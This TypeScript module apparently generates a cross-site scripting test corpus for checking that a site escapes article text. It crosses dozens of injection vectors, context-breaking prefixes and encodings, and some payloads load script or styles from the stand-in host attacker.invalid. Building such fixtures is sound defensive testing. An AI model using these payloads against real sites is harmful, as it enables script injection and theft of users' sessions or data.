/** Texts that would run if a page ever took an article's text for markup, script, address or template. */

/** `xss(N)` is what each would call. Each leads through another door of a browser or a template engine. */
const VECTORS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<script/x>${call}</script/x>`,
  () => "<script src=//attacker.invalid/x.js></script>",
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src="x"/onerror="${call}">`,
  (call) => `<IMG SRC=x ONERROR='${call}'>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call) => `<math><mtext><script>${call}</script></mtext></math>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href=" &#1;java&#10;script:${call}">x</a>`,
  (call) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call) => `<button formaction="javascript:${call}" form=f>x</button>`,
  (call) => `<body onload=${call} onpageshow=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<p style="animation-name:x" onanimationstart=${call}>x</p>`,
  () => "<style>@import '//attacker.invalid/x.css';</style>",
  () => "<link rel=stylesheet href=//attacker.invalid/x.css>",
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => "<meta http-equiv=refresh content='0;url=//attacker.invalid/'>",
  () => "<base href=//attacker.invalid/>",
  (call) => `<template><img src=x onerror=${call}></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?><svg onload=${call}>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{ ${call} }}{% ${call} %}<%= ${call} %>\${${call}}#{${call}}`,
  (call) => `---js\n{ x: ${call} }\n---`,
  (call) => `[x](javascript:${call}) ![x](x"onerror="${call})`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
];

/** What could end the place that a text stands in. */
const BREAKS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "]]>",
  "*/",
  "</script>",
  "</title>",
  "</style>",
  "</textarea>",
  "</time></li></ol>",
  "\\",
  '\\"',
  "\u2028",
];

/** Ways of writing that some reader may undo. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;"),
  (text) => text.replace(/[<>"'&]/g, (one) => `&#x${one.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
];

/** Every vector behind every break in every disguise; the number in its call is its place in the list. */
export const payloads: readonly string[] = DISGUISES.flatMap((disguise) =>
  BREAKS.flatMap((end) => VECTORS.map((vector) => ({ disguise, end, vector }))),
).map(({ disguise, end, vector }, number) => disguise(`${end}${vector(`xss(${number})`)}`));
